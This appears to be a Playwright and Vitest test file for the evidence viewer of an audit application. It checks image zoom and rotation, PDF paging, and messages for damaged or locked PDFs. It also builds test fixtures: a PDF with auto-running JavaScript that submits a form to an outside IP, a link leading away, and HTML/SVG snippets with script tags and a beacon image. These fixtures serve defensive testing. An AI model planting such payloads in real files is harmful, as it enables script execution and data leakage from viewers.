import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../../electron/hosts/ensure-built.ts';
import { hasBrowser, launchBrowser } from '../support/browser.ts';
import { openPage } from '../support/page.ts';
import { anEmptyAudit, aSample, findFaults } from '../support/rooms.ts';

const sampleFiles = path.resolve(import.meta.dirname, '../../assets/sample/files');

/** A PDF made of these objects, with a table of where each begins. */
function aPdf(objects: readonly string[], trailer = ''): string {
  let text = '%PDF-1.7\n';
  const places = objects.map((content, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${content}\nendobj\n`;
    return String(at).padStart(10, '0');
  });
  const start = text.length;
  const rows = places.map((at) => `${at} 00000 n \n`).join('');
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${start}\n%%EOF\n`;
}

const stream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
const script = "app.alert('run'); this.submitForm('http://198.51.100.7/x'); document.title = 'run'";
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 5 0 R /Annots [6 0 R]';

/** A PDF that wants to run a script when it opens, when its page opens, and to lead elsewhere. */
const hostile = aPdf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `${page} /Resources << /Font << /F1 4 0 R >> >> /AA << /O << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >> >> >>`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  stream('BT /F1 24 Tf 20 100 Td (Harmless words) Tj ET'),
  '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (http://198.51.100.7/away) >> >>',
]);

const locked = aPdf(
  ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'],
  `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${'a1'.repeat(32)}> /U <${'b2'.repeat(32)}> >> `,
);

/** Takes a file into an audit as a script does. */
async function take(
  workbench: { url: string; api: Parameters<typeof findFaults>[1]['api'] },
  ref: string,
  name: string,
  content: BodyInit,
) {
  const { origin, hash } = new URL(workbench.url);
  const response = await fetch(`${origin}/files`, {
    method: 'POST',
    headers: {
      Authorization: `Bearer ${new URLSearchParams(hash.slice(1)).get('token')}`,
      'X-File-Name': encodeURIComponent(name),
    },
    body: content,
  });
  const { value } = (await response.json()) as { value: { staging: string } };
  await workbench.api.call('evidence.add', { audit: ref, files: [{ staging: value.staging, name }] });
}

const drawn = (shown: Page, number: number) => shown.locator(`[data-page="${number}"][data-state="drawn"]`);

const pageShown = (shown: Page, words: string) => shown.getByRole('status').filter({ hasText: words });

describe.runIf(hasBrowser('the tests of the views of evidence'))('the views of evidence', () => {
  let browser: Browser;
  beforeAll(async () => {
    await ensureBuilt('page', () => undefined);
    browser = await launchBrowser();
  });
  afterAll(() => browser.close());

  it('shows a picture whole, at its own size, larger and turned, all by keys, in its place and large', async () => {
    const { workbench, ref, read } = await aSample();
    const shown = await openPage(browser, workbench, `/a/${ref}/evidence/E-007`);
    const { sha256 } = (await read()).evidence.find(({ number }) => number === 'E-007') ?? { sha256: '' };
    await shown.getByText(sha256).waitFor();
    const view = shown.getByRole('region', { name: 'View of the picture' });
    await shown.getByText(/^Fits, \d+ %$/).waitFor();
    const width = () => shown.locator('img').evaluate((image: HTMLImageElement) => image.width / image.naturalWidth);
    await expect.poll(width).toBeLessThan(1);
    await shown.keyboard.press('1');
    await expect.poll(width).toBe(1);
    await shown.keyboard.press('+');
    await shown.getByText('150 %', { exact: true }).waitFor();
    await shown.keyboard.press('[');
    await expect.poll(() => view.getAttribute('data-quarter')).toBe('3');
    await shown.getByText('Turning changes the view, not the file.').waitFor();
    await view.focus();
    const top = () => view.evaluate((element) => element.scrollTop);
    const before = await top();
    await shown.keyboard.press('ArrowDown');
    await expect.poll(top).toBe(before + 60);
    expect(shown.url()).toContain('E-007');
    await shown.keyboard.press('o');
    const large = shown.getByRole('dialog', { name: /Release process/ }).getByRole('region');
    await expect.poll(() => large.getAttribute('data-zoom')).toBe('150');
    await shown.keyboard.press(']');
    await shown.keyboard.press('0');
    await expect.poll(() => large.getAttribute('data-quarter')).toBe('0');
    await expect.poll(() => large.getAttribute('data-zoom')).toBe('fit');
    await shown.keyboard.press('Escape');
    await shown.getByRole('dialog').waitFor({ state: 'detached' });
  });

  it('shows a PDF page by page with words that can be selected', async () => {
    const { workbench, ref } = await anEmptyAudit();
    await take(
      workbench,
      ref,
      'IAP-07.pdf',
      await readFile(path.join(sampleFiles, 'IAP-07 AI system impact assessment v3.0.pdf')),
    );
    const shown = await openPage(browser, workbench, `/a/${ref}/evidence/E-001`);
    await drawn(shown, 1).waitFor();
    await pageShown(shown, 'Page 1 of 4').waitFor();
    // Pages out of view are not drawn.
    expect(await shown.locator('[data-page="4"]').count()).toBe(0);
    await shown.keyboard.press('PageDown');
    await pageShown(shown, 'Page 2 of 4').waitFor();
    await shown.keyboard.press('PageDown');
    await pageShown(shown, 'Page 3 of 4').waitFor();
    await drawn(shown, 3).getByText('Planned interval').waitFor();
    const inkOf = (canvas: HTMLCanvasElement) => {
      const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
      return pixels.some((value, place) => place % 4 === 0 && value < 100);
    };
    expect(await drawn(shown, 3).locator('canvas').evaluate(inkOf)).toBe(true);
    await shown.keyboard.press('+');
    await shown.getByText('50 %', { exact: true }).waitFor();
    await shown.keyboard.press(']');
    await expect.poll(() => shown.locator('[data-quarter="1"]').count()).toBe(1);
    await shown.keyboard.press('o');
    await shown.getByRole('dialog').getByRole('status').filter({ hasText: 'Page 1 of 4' }).waitFor();
  });

  it('lets nothing in a PDF run or lead away', async () => {
    const { workbench, ref } = await anEmptyAudit();
    await take(workbench, ref, 'hostile.pdf', hostile);
    // A request to anywhere else, a question of the page or an error fails in openPage.
    const shown = await openPage(browser, workbench, `/a/${ref}/evidence/E-001`);
    let asked = 0;
    shown.on('dialog', (dialog) => {
      asked += 1;
      void dialog.dismiss();
    });
    await drawn(shown, 1).getByText('Harmless words').waitFor();
    const address = shown.url();
    await drawn(shown, 1).click();
    await pageShown(shown, 'Page 1 of 1').waitFor();
    expect(shown.url()).toBe(address);
    expect(shown.context().pages()).toHaveLength(1);
    expect(asked).toBe(0);
    expect(await shown.title()).not.toBe('run');
  });

  it('says in words that a PDF is damaged or locked', async () => {
    const { workbench, ref } = await anEmptyAudit();
    await take(workbench, ref, 'damaged.pdf', '%PDF-1.7\nnothing that could be read');
    await take(workbench, ref, 'locked.pdf', locked);
    const shown = await openPage(browser, workbench, `/a/${ref}/evidence/E-001`);
    await shown.getByText('This PDF is damaged or is not one.').waitFor();
    await shown.keyboard.press('j');
    await shown.getByText('This PDF is locked with a password.').waitFor();
    await shown.getByRole('link', { name: 'Save a copy of locked.pdf' }).waitFor();
  });

  it('shows pages of the web and drawings as the text they are', async () => {
    const { workbench, ref } = await anEmptyAudit();
    await take(workbench, ref, 'page.html', "<script>document.title = 'run'</script><img src=http://198.51.100.7/x>");
    await take(
      workbench,
      ref,
      'drawing.svg',
      "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    );
    const shown = await openPage(browser, workbench, `/a/${ref}/evidence/E-001`);
    const preview = shown.getByRole('region', { name: 'Preview' });
    await preview.getByText("document.title = 'run'").waitFor();
    await shown.keyboard.press('j');
    await preview.getByText('alert(1)').waitFor();
    expect(await shown.locator('img').count()).toBe(0);
  });

  it('has nothing that axe objects to, with a PDF in view', async () => {
    const { workbench, ref } = await aSample();
    const faults = await findFaults(browser, workbench, `/a/${ref}/evidence/E-001`, (shown) =>
      drawn(shown, 1).waitFor(),
    );
    expect(faults).toEqual([]);
  }, 120_000);
});
